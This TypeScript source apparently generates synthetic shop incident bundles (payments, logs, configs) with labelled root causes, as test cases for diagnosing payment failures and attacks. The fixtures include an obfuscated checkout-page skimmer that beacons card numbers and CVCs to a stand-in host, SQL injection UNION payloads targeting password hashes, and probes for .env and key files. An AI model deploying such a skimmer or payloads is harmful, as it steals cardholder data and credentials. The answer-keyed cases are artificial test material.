/** Bundles about messages, payments and attacks, in the shape of a shop's own evidence. */
import { createHash } from 'node:crypto';
import { type Files, iso } from './bundle.ts';
import { type Scene, stretch } from './scene.ts';
import type { Case } from './unseen.ts';

const MINUTE = 60_000;
const HOUR = 60 * MINUTE;
const ONSET = Date.UTC(2026, 8, 17, 9, 4);
const START = ONSET - 3 * HOUR;
const NOW = ONSET + 2 * HOUR;
const SITE = 'shop.linden-home.example';
const AGENTS = [
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 Chrome/125.0.0.0 Mobile Safari/537.36',
];
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const hash = (text: string): string => createHash('sha256').update(text).digest('hex');

interface Row {
  time: number;
  order: string;
  bin?: string;
  card?: string;
  expiry?: string;
  amount?: number;
  code: string;
  status: string;
  ip?: string;
  user?: string;
  device?: string;
  merchant?: string;
  channel?: string;
}
interface Shop {
  row?(r: Row, i: number): Row | undefined;
  extraRows?: Row[];
  app?(t: number, i: number): string | undefined;
  appEvery?: number;
  access?: string;
  changes?: string;
  every?: number;
  files?: Files;
}
const HEADER =
  'created_at,payment_id,order_no,merchant,channel,bin,last4,card_fp,card_exp,amount,currency,resp_code,status,latency_ms,client_ip,user_id,device_id,subject';
const log = (t: number, level: string, logger: string, text: string, node = 'api02'): string =>
  `${iso(t).slice(0, 23).replace('T', ' ').replace('.', ',')} [http-nio-8080-exec-${t % 19}] ${level.padEnd(5)} com.linden.pay.${logger} [${node}] - ${text}`;
const access = (
  t: number,
  client: string,
  request: string,
  status: number,
  bytes: number,
  agent = AGENTS[t % 3]!,
  referer = `https://${SITE}/`,
): string => {
  const l = iso(t);
  return `${client} - - [${l.slice(8, 10)}/${MONTHS[Number(l.slice(5, 7)) - 1]}/${l.slice(0, 4)}:${l.slice(11, 19)} +0000] "${request}" ${status} ${bytes} "${referer}" "${agent}"`;
};

function shop(s: Shop): Scene {
  const rows: Row[] = [];
  const app: string[] = [];
  let i = 0;
  for (let t = START; t < NOW; t += (s.every ?? 25) * 1000) {
    i++;
    const time = t + ((i * 733) % 9000);
    const declined = i % 13 === 0;
    const row: Row = {
      time,
      order: `LH-${88_000 + i}`,
      bin: ['400000', '424242', '510510', '555555', '222300'][i % 5]!,
      card: hash(`c${i}`).slice(0, 16),
      expiry: `28${String(1 + (i % 12)).padStart(2, '0')}`,
      amount: 1200 + ((i * 517) % 9000),
      code: declined ? ['51', '05', '54'][i % 3]! : '00',
      status: declined ? 'FAILED' : 'PAID',
      ip: `100.${64 + (i % 50)}.${(i * 7) % 250}.${(i * 13) % 250}`,
      user: `u${700_000 + ((i * 97) % 9000)}`,
      device: `d-${hash(`d${i}`).slice(0, 8)}`,
    };
    const kept = s.row ? s.row(row, i) : row;
    if (kept) rows.push(kept);
    app.push(
      log(
        time,
        'INFO',
        'OrderService',
        `payment request accepted order=${row.order} channel=card amount=${row.amount} mch=M42${i % 4}10`,
      ),
    );
    if (i % 97 === 3)
      app.push(
        log(
          time + 40,
          'ERROR',
          'MailSender',
          'mail delivery failed, will retry: java.net.SocketTimeoutException: Read timed out',
        ),
      );
    if (i % 211 === 5)
      app.push(
        log(
          time + 60,
          'WARN',
          'NotifyController',
          'webhook rejected event=evt_test_1 Error: No signatures found matching the expected signature for payload',
        ),
      );
  }
  if (s.app) {
    let k = 0;
    for (let t = ONSET; t < NOW; t += (s.appEvery ?? 30) * 1000) {
      const text = s.app(t + ((k * 431) % 3000), k++);
      if (text) app.push(text);
    }
  }
  const all = [...rows, ...(s.extraRows ?? [])].sort((a, b) => a.time - b.time);
  const table = all.map((r, n) =>
    [
      iso(r.time).replace('Z', '+00:00'),
      `P${hash(`${n}${r.order}`).slice(0, 12)}`,
      r.order,
      r.merchant ?? `M42${n % 4}10`,
      r.channel ?? 'card',
      r.bin ?? '',
      String(1000 + ((n * 37) % 9000)),
      `fp_${r.card ?? ''}`,
      r.expiry ?? '',
      String(r.amount ?? 0),
      'EUR',
      r.code,
      r.status,
      String(200 + (n % 300)),
      r.ip ?? '',
      r.user ?? '',
      r.device ?? '',
      'Linen sheets',
    ].join(),
  );
  const browse = stretch(START, NOW, 9, (t, n) =>
    access(
      t,
      `100.${64 + (n % 50)}.${(n * 7) % 250}.${(n * 13) % 250}`,
      [
        'GET / HTTP/2.0',
        'GET /p/3528 HTTP/2.0',
        'GET /cart HTTP/2.0',
        'POST /checkout/pay HTTP/2.0',
        'GET /static/js/checkout.js HTTP/2.0',
      ][n % 5]!,
      200,
      4000 + (n % 900),
    ),
  );
  const scanners = stretch(START, NOW, 1300, (t, n) =>
    access(
      t,
      `185.${n % 200}.3.9`,
      [
        'GET /.env HTTP/1.1',
        'GET /wp-login.php HTTP/1.1',
        'GET /p?id=1%27%20OR%201=1-- HTTP/1.1',
        'GET /.git/config HTTP/1.1',
      ][n % 4]!,
      404,
      162,
      'Mozilla/5.0 zgrab/0.x',
      '-',
    ),
  );
  return {
    onset: ONSET,
    start: START,
    now: NOW,
    files: {
      'meta/now': `${iso(NOW)}\n`,
      'meta/topology.yaml': `site: ${SITE}\ntimezone: UTC\nnodes:\n  - {name: lb1, role: edge, ip: 10.41.0.21}\n  - {name: api01, role: app, ip: 10.41.1.11}\n  - {name: api02, role: app, ip: 10.41.1.12}\ninternal_networks: [10.41.0.0/16]\npsp_callback_ranges: [198.51.100.0/26]\n`,
      'meta/changes.md': `# change calendar\n\n- ${iso(ONSET - 90 * HOUR)
        .slice(0, 16)
        .replace('T', ' ')}  [dba] redis maxmemory 6g -> 8g\n- ${iso(ONSET - 20 * HOUR)
        .slice(0, 16)
        .replace('T', ' ')}  [marketing] search synonyms updated\n${s.changes ?? ''}`,
      'txn/payments.csv': `${HEADER}\n${table.join('\n')}\n`,
      'logs/app.log': `${app.sort((a, b) => (a.slice(0, 23) < b.slice(0, 23) ? -1 : 1)).join('\n')}\n`,
      'logs/access.log': `${[...`${browse}${scanners}${s.access ?? ''}`.split('\n').filter(Boolean)]
        .map((l) => ({ l, t: l.slice(l.indexOf('[') + 1, l.indexOf(']')) }))
        .sort((a, b) => (a.t < b.t ? -1 : 1))
        .map((x) => x.l)
        .join('\n')}\n`,
      ...(s.files ?? {}),
    },
  };
}
const change = (t: number, text: string): string => `- ${iso(t).slice(0, 16).replace('T', ' ')}  ${text}\n`;
const after = (r: Row): boolean => r.time >= ONSET;

const SCRIPT = `/* checkout v4.2.0 */\n(function (w, d) {\n  'use strict';\n  var f = d.getElementById('card-form');\n  f.addEventListener('submit', function () { w.pay.tokenize(f); });\n})(window, document);\n`;
const EVIL = SCRIPT.replace(
  '})(window',
  "  f.addEventListener('change', function(){var x=new Image();x.src=atob('aHR0cHM6Ly9zdGF0cy1saW5kZW4uZXhhbXBsZS5uZXQvcC5naWY/')+btoa(f.cardnumber.value+'|'+f.cvc.value);});\n})(window",
);

export const PAYMENT_CASES: Case[] = [
  {
    name: 'notice, callbacks fail, orders pending',
    cause: ['provider-key-rotated'],
    never: ['webhook-body-altered', 'request-signature-wrong'],
    make: () =>
      shop({
        row: (r) =>
          after(r)
            ? { ...r, channel: 'wechat', code: 'USERPAYING', status: 'PENDING' }
            : { ...r, channel: 'wechat', code: r.code === '00' ? 'SUCCESS' : 'USERPAYING' },
        app: (t, i) =>
          log(
            t,
            'ERROR',
            'NotifyController',
            `callback rejected order=LH-${88_400 + i} com.wechat.pay.java.core.exception.ValidationException: Verify the signature and get the WechatPay certificate or publicKey corresponding to serialNumber[5157F09EFDC096DE15EBE81A47057A72] is empty.`,
          ),
        files: {
          'meta/notices.txt': `${iso(ONSET - 20 * 24 * HOUR)
            .slice(0, 16)
            .replace(
              'T',
              ' ',
            )}  provider notice: platform certificate will be replaced on ${iso(ONSET).slice(0, 16)}Z, new serial 5157F09EFDC096DE15EBE81A47057A72; please fetch it beforehand\n`,
        },
      }),
  },
  {
    name: 'public key id, no notice',
    cause: ['provider-key-rotated'],
    make: () =>
      shop({
        row: (r) => (after(r) ? { ...r, status: 'PENDING', code: '' } : r),
        app: (t, i) =>
          log(
            t,
            'ERROR',
            'NotifyController',
            `callback rejected order=LH-${88_400 + i} 平台证书序列号不相符，未找到平台序列号`,
          ),
      }),
  },
  {
    name: 'all nodes',
    cause: ['timestamp-outside-window'],
    never: ['clock-skew'],
    make: () =>
      shop({
        row: (r) => (after(r) ? { ...r, code: '40002', status: 'FAILED' } : r),
        changes: change(ONSET - MINUTE, '[pay] release 5.1.0 (time library replaced)'),
        app: (t, i) =>
          log(
            t,
            'ERROR',
            'AlipayClient',
            `payment failed order=LH-${88_400 + i} {"code":"40002","sub_code":"isv.invalid-timestamp","sub_msg":"非法的时间戳参数"}`,
            ['api01', 'api02'][i % 2],
          ),
      }),
  },
  {
    name: 'one node, its clock is off',
    cause: ['clock-skew', 'timestamp-outside-window'],
    make: () =>
      shop({
        row: (r, i) => (after(r) && i % 2 ? { ...r, code: '', status: 'ERROR' } : r),
        app: (t, i) =>
          log(
            t - 412_000,
            'ERROR',
            'StripeHooks',
            `webhook rejected event=evt_${i} StripeSignatureVerificationError: Timestamp outside the tolerance zone`,
            'api02',
          ),
        files: {
          'meta/ntp/api02.txt':
            'Reference ID    : 00000000 ()\nStratum         : 0\nSystem time     : 412.183000000 seconds slow of NTP time\nLeap status     : Not synchronised\n',
          'meta/ntp/api01.txt':
            'Reference ID    : 0AB20003 (ntp1)\nStratum         : 3\nSystem time     : 0.000113000 seconds fast of NTP time\nLeap status     : Normal\n',
        },
      }),
  },
  {
    name: 'RSA signed, RSA2 said',
    cause: ['sign-type-mismatch'],
    never: ['request-signature-wrong'],
    make: () =>
      shop({
        row: (r) => (after(r) ? { ...r, channel: 'alipay', code: '40002', status: 'FAILED' } : r),
        app: (t, i) =>
          log(
            t,
            'ERROR',
            'AlipayClient',
            `支付失败 order=LH-${88_400 + i} {"code":"40002","msg":"Invalid Arguments","sub_code":"isv.invalid-signature","sub_msg":"sign值与sign_type参数指定的签名类型不一致：sign_type参数值为RSA2，您实际用的签名类型可能是RSA"}`,
          ),
        files: { 'conf/merchant.yaml': 'alipay:\n  app_id: 2021004100\n  sign_type: RSA2\n' },
      }),
  },
  {
    name: 'retry after timeouts',
    cause: ['duplicate-payment'],
    make: () => {
      const extra: Row[] = [];
      const s = shop({
        row: (r, i) => {
          if (after(r) && i % 7 === 0) extra.push({ ...r, code: '00', status: 'PAID', time: r.time + 21_000 });
          return after(r) && i % 7 === 0 ? { ...r, code: '00', status: 'PAID' } : r;
        },
        extraRows: extra,
        changes: change(ONSET - 2 * MINUTE, '[pay] release 5.1.2 (retry on timeout)'),
        app: (t, i) =>
          i % 6 === 0
            ? log(
                t,
                'WARN',
                'CardClient',
                `order=LH-${88_440 + i * 7} java.net.SocketTimeoutException: Read timed out, retry 1`,
              )
            : undefined,
      });
      return s;
    },
  },
  {
    name: 'many cards, small amounts, headless',
    cause: ['card-testing'],
    make: () =>
      shop({
        extraRows: Array.from(
          { length: 420 },
          (_, i): Row => ({
            time: ONSET + i * 6000,
            order: `LH-9${10_000 + i}`,
            merchant: 'M42010',
            bin: ['400000', '510510', '424242', '555555', '401200', '520082'][i % 6]!,
            card: hash(`t${i}`).slice(0, 16),
            expiry: `27${String(1 + (i % 12)).padStart(2, '0')}`,
            amount: 100,
            code: i % 22 ? ['05', '14', '54', '82'][i % 4]! : '00',
            status: i % 22 ? 'FAILED' : 'PAID',
            ip: `45.${80 + (i % 9)}.${i % 13}.${i % 17}`,
            user: '',
            device: `d-bot${i % 5}`,
          }),
        ),
        access: stretch(ONSET, ONSET + 42 * MINUTE, 6, (t, i) =>
          access(
            t,
            `45.${80 + (i % 9)}.${i % 13}.${i % 17}`,
            'POST /checkout/pay HTTP/1.1',
            200,
            311,
            'python-requests/2.32.3',
            '-',
          ),
        ),
      }),
  },
  {
    name: 'script, baseline, inventory and browser reports',
    cause: ['web-skimmer'],
    make: () =>
      shop({
        files: {
          'web/checkout.js': EVIL,
          'web/baseline/checkout.js': SCRIPT,
          'conf/scripts-inventory.yaml': `# authorised scripts on the payment page\nscripts:\n  - {path: /static/js/checkout.js, sha256: ${hash(SCRIPT)}, owner: pay, purpose: card form}\n`,
          'meta/files.txt': `# mode owner:group size mtime path\n-rw-r--r-- deploy:www ${EVIL.length} ${iso(ONSET)} /srv/www/static/js/checkout.js\n`,
          'logs/csp-report.jsonl': stretch(ONSET + 30_000, NOW, 300, (t) =>
            JSON.stringify({
              received: iso(t),
              'csp-report': {
                'document-uri': `https://${SITE}/checkout`,
                'effective-directive': 'img-src',
                'violated-directive': 'img-src',
                'blocked-uri': 'https://stats-linden.example.net',
                disposition: 'report',
              },
            }),
          ),
        },
      }),
  },
  {
    name: 'script and baseline only',
    cause: ['web-skimmer'],
    make: () =>
      shop({
        files: {
          'web/checkout.js': EVIL,
          'web/baseline/checkout.js': SCRIPT,
          'meta/files.txt': `# mode owner:group size mtime path\n-rw-r--r-- deploy:www ${EVIL.length} ${iso(ONSET)} /srv/www/static/js/checkout.js\n`,
        },
      }),
  },
  {
    name: 'script and a table of sums, no baseline',
    cause: ['web-skimmer'],
    make: () =>
      shop({
        files: {
          'web/checkout.js': EVIL,
          'meta/files.csv': `chemin;droits;taille;modifié\n/srv/www/static/js/checkout.js;0644;${EVIL.length};${iso(ONSET)}\n`,
          'meta/scripts.csv': `page,script,integrity,approved\n/checkout,/static/js/checkout.js,sha256-${Buffer.from(hash(SCRIPT), 'hex').toString('base64')},yes\n`,
        },
      }),
  },
  {
    name: 'reports of browsers by themselves, one document',
    cause: ['web-skimmer'],
    make: () =>
      shop({
        files: {
          'csp.json': JSON.stringify(
            Array.from({ length: 12 }, (_, i) => ({
              received: iso(ONSET + 60_000 * (i + 1)),
              type: 'csp-violation',
              body: {
                documentURL: `https://${SITE}/checkout`,
                effectiveDirective: 'connect-src',
                blockedURL: 'https://stats-linden.example.net/p',
              },
            })),
          ),
        },
      }),
  },
  {
    name: 'many addresses, one try each',
    cause: ['credential-stuffing'],
    make: () =>
      shop({
        access: stretch(ONSET, ONSET + 80 * MINUTE, 2.5, (t, i) =>
          access(
            t,
            `${40 + (i % 160)}.${(i * 7) % 250}.${(i * 11) % 250}.${(i * 3) % 250}`,
            'POST /api/login HTTP/1.1',
            i % 70 ? 401 : 200,
            i % 70 ? 88 : 512,
            'okhttp/4.9.1',
            '-',
          ),
        ),
        app: (t, i) =>
          log(
            t,
            'WARN',
            'AuthService',
            `login failed user=cust${10_000 + i * 13} ip=${40 + (i % 160)}.${(i * 7) % 250}.9.1 reason=bad_credentials`,
          ),
        appEvery: 3,
      }),
  },
  {
    name: 'a union that answers',
    cause: ['injection-attack'],
    make: () =>
      shop({
        access: stretch(ONSET, ONSET + 18 * MINUTE, 7, (t, i) =>
          access(
            t,
            '91.210.44.7',
            `GET /p/search?q=1%27%20UNION%20SELECT%20${'null,'.repeat(i % 5)}email,password_hash%20FROM%20users--%20${i} HTTP/1.1`,
            i < 20 ? 500 : 200,
            i < 20 ? 1240 : 48_000 + i * 311,
            'sqlmap/1.8.2#stable',
            '-',
          ),
        ),
        app: (t, i) =>
          i < 12
            ? log(
                t,
                'ERROR',
                'SearchController',
                'org.postgresql.util.PSQLException: ERROR: each UNION query must have the same number of columns',
              )
            : undefined,
      }),
  },
  {
    name: 'debug release',
    cause: ['card-data-in-logs'],
    make: () =>
      shop({
        changes: change(ONSET - MINUTE, '[pay] release 5.3.0 (request logging for support)'),
        app: (t, i) =>
          log(
            t,
            'DEBUG',
            'CardClient',
            `request {"pan":"${['4111111111111111', '5555555555554444', '4242424242424242', '378282246310005'][i % 4]}","exp":"12/28","cvc":"${100 + (i % 800)}","order":"LH-${88_400 + i}"}`,
          ),
      }),
  },
  {
    name: 'few searches, thousands of times',
    cause: ['request-flood'],
    make: () =>
      shop({
        row: (r, i) => (after(r) && r.time < ONSET + 30 * MINUTE && i % 3 ? { ...r, code: '', status: 'ERROR' } : r),
        access: stretch(ONSET, ONSET + 30 * MINUTE, 0.2, (t, i) =>
          access(
            t,
            `${11 + (i % 90)}.${(i * 7) % 250}.${(i * 11) % 250}.${(i * 3) % 250}`,
            `GET /search?q=${hash(String(i)).slice(0, 6)} HTTP/1.1`,
            i % 5 ? 503 : 200,
            190,
            'Mozilla/5.0 (compatible)',
            '-',
          ),
        ),
      }),
  },
  {
    name: 'response codes and texts',
    cause: ['dual-signature-broken'],
    make: () =>
      shop({
        row: (r) => (after(r) ? { ...r, code: '', status: 'ERROR' } : r),
        changes: change(ONSET - MINUTE, '[pay] release 6.0.0 (SET component rebuilt)'),
        app: (t, i) =>
          log(
            t,
            'ERROR',
            'SetGateway',
            `order=LH-${88_400 + i} SET Error message ErrorCode=SignatureFailure: dual signature verification failed, ThumbsMismatch`,
          ),
      }),
  },
  {
    name: 'healthy: campaign',
    cause: [],
    make: () =>
      shop({
        changes: change(ONSET - MINUTE, '[marketing] newsletter, 30 % voucher'),
        access: stretch(ONSET, ONSET + 60 * MINUTE, 0.7, (t, i) =>
          access(
            t,
            `${60 + (i % 90)}.${(i * 7) % 250}.${(i * 11) % 250}.${(i * 3) % 250}`,
            [
              'GET / HTTP/2.0',
              'GET /p/77 HTTP/2.0',
              'GET /cart HTTP/2.0',
              'GET /static/css/main.css HTTP/2.0',
              'POST /checkout/pay HTTP/2.0',
            ][i % 5]!,
            200,
            3000 + (i % 4000),
          ),
        ),
      }),
  },
  {
    name: 'healthy: month end',
    cause: [],
    make: () => shop({ row: (r, i) => (after(r) && i % 5 === 0 ? { ...r, code: '51', status: 'FAILED' } : r) }),
  },
  {
    name: 'healthy: scanners',
    cause: [],
    make: () =>
      shop({
        access: stretch(ONSET, ONSET + 20 * MINUTE, 2, (t, i) =>
          access(
            t,
            '193.32.162.5',
            [
              `GET /index.php?id=${i}%27%20UNION%20SELECT%201-- HTTP/1.1`,
              `GET /.env.${i} HTTP/1.1`,
              `GET /backup/server.key HTTP/1.1`,
              'GET /uploads/shell.php HTTP/1.1',
            ][i % 4]!,
            404,
            162,
            'Nuclei - Open-source project',
            '-',
          ),
        ),
      }),
  },
  {
    name: 'healthy: approved new script',
    cause: [],
    make: () => {
      const next = SCRIPT.replace('v4.2.0', 'v4.3.0').replace("'use strict';", "'use strict'; var frame = 2;");
      return shop({
        changes: change(ONSET, '[pay] release checkout.js 4.3.0 (CHG-901), inventory updated'),
        files: {
          'web/checkout.js': next,
          'web/baseline/checkout.js': SCRIPT,
          'conf/scripts-inventory.yaml': `scripts:\n  - {path: /static/js/checkout.js, sha256: ${hash(next)}, owner: pay, purpose: card form}\n`,
        },
      });
    },
  },
  {
    name: 'healthy: customers pay twice on purpose',
    cause: [],
    make: () => shop({ row: (r, i) => (i % 40 === 0 ? { ...r, card: 'aaaa0000bbbb1111' } : r) }),
  },
];
